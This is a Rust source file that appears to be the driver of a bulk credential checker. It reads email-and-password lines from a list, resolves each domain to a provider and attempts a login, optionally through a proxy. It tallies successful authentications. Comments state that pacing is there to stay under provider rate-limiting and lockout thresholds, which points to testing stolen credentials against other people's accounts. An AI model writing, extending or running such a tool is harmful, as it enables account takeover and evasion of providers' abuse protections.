use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use parking_lot::Mutex;
use tokio::io::{AsyncBufReadExt, BufReader};
use tokio::sync::mpsc::{self, Receiver};
use tokio::sync::Mutex as AsyncMutex;
use tokio::task::JoinHandle;

use crate::proxy::ProxyEndpoint;
use crate::record::{self, Credential};
use crate::registry::DomainRegistry;
use crate::report::Reporter;
use crate::verify::{self, Outcome};

/// Caller-supplied knobs for one run.
#[derive(Debug, Clone)]
pub struct RunConfig {
    /// Concurrent attempts; 1 processes the list strictly in order.
    pub workers: usize,
    /// Bound on each connect/authenticate exchange.
    pub timeout: Duration,
    /// Pause per worker after each attempt, to stay under provider
    /// rate-limiting and lockout thresholds.
    pub pacing: Duration,
    pub proxy: Option<ProxyEndpoint>,
}

/// Aggregate accounting across the record stream.
#[derive(Debug, Default)]
pub struct Stats {
    /// Non-empty input lines that produced an outcome.
    pub processed: AtomicU64,
    /// Records that reached a verification attempt.
    pub total: AtomicU64,
    /// Attempts that authenticated successfully.
    pub succeeded: AtomicU64,
}

/// Classify one raw input line: parse → validate → resolve → attempt.
/// Exactly one outcome per line; the stages short-circuit so no network
/// action happens for records that fail before resolution.
pub async fn process_line(
    line: &str,
    registry: &DomainRegistry,
    proxy: Option<&ProxyEndpoint>,
    attempt_timeout: Duration,
) -> (Option<Credential>, Outcome) {
    let Some(cred) = record::parse_line(line) else {
        return (None, Outcome::MalformedRecord);
    };
    if !record::email_is_valid(&cred.email) {
        return (Some(cred), Outcome::InvalidIdentifier);
    }
    let Some(params) = registry.resolve(cred.domain()) else {
        return (Some(cred), Outcome::UnknownDomain);
    };
    let outcome = verify::verify(&cred, params, proxy, attempt_timeout).await;
    (Some(cred), outcome)
}

fn spawn_worker(
    rx: Arc<AsyncMutex<Receiver<String>>>,
    registry: Arc<DomainRegistry>,
    cfg: Arc<RunConfig>,
    stats: Arc<Stats>,
    reporter: Arc<Mutex<Reporter>>,
) -> JoinHandle<()> {
    tokio::spawn(async move {
        loop {
            let line = { rx.lock().await.recv().await };
            let Some(line) = line else { break };
            let (cred, outcome) =
                process_line(&line, &registry, cfg.proxy.as_ref(), cfg.timeout).await;

            stats.processed.fetch_add(1, Ordering::Relaxed);
            let attempted = outcome.attempted();
            if attempted {
                stats.total.fetch_add(1, Ordering::Relaxed);
                if outcome == Outcome::Success {
                    stats.succeeded.fetch_add(1, Ordering::Relaxed);
                }
            }
            reporter.lock().record(&line, cred.as_ref(), &outcome);

            // Pacing only after records that actually hit the network.
            if attempted && !cfg.pacing.is_zero() {
                tokio::time::sleep(cfg.pacing).await;
            }
        }
    })
}

/// Drive one pass over the input records.
///
/// The input is opened before any worker starts, so a missing list is a
/// fatal setup error rather than a per-record one. Returns the accumulator;
/// the caller prints the summary. On Ctrl-C the in-flight attempts are
/// abandoned and whatever was counted so far is returned.
pub async fn run(
    input: &Path,
    registry: Arc<DomainRegistry>,
    cfg: RunConfig,
    reporter: Arc<Mutex<Reporter>>,
) -> anyhow::Result<Arc<Stats>> {
    let file = tokio::fs::File::open(input)
        .await
        .with_context(|| format!("cannot open input file {}", input.display()))?;

    let cfg = Arc::new(cfg);
    let stats = Arc::new(Stats::default());
    let workers = cfg.workers.max(1);

    let (tx, rx) = mpsc::channel::<String>(workers * 4);
    let rx = Arc::new(AsyncMutex::new(rx));

    let mut jobs: Vec<JoinHandle<()>> = Vec::new();
    for _ in 0..workers {
        jobs.push(spawn_worker(
            rx.clone(),
            registry.clone(),
            cfg.clone(),
            stats.clone(),
            reporter.clone(),
        ));
    }

    let producer = tokio::spawn(async move {
        let mut lines = BufReader::new(file).lines();
        loop {
            match lines.next_line().await {
                Ok(Some(line)) => {
                    if line.trim().is_empty() {
                        continue;
                    }
                    if tx.send(line).await.is_err() {
                        break;
                    }
                }
                Ok(None) => break,
                Err(e) => {
                    tracing::error!("stopped reading input: {e}");
                    break;
                }
            }
        }
    });

    let producer_abort = producer.abort_handle();
    let worker_aborts: Vec<_> = jobs.iter().map(|j| j.abort_handle()).collect();

    let drive = async move {
        producer.await.ok();
        for job in jobs {
            job.await.ok();
        }
    };
    tokio::pin!(drive);

    let interrupt = async {
        match tokio::signal::ctrl_c().await {
            Ok(()) => {}
            Err(e) => {
                // No interrupt delivery; the run just cannot be cancelled.
                tracing::error!("cannot listen for interrupts: {e}");
                std::future::pending::<()>().await;
            }
        }
    };

    tokio::select! {
        _ = &mut drive => {}
        _ = interrupt => {
            tracing::warn!("interrupt received, abandoning in-flight attempts");
            producer_abort.abort();
            for handle in &worker_aborts {
                handle.abort();
            }
        }
    }

    Ok(stats)
}
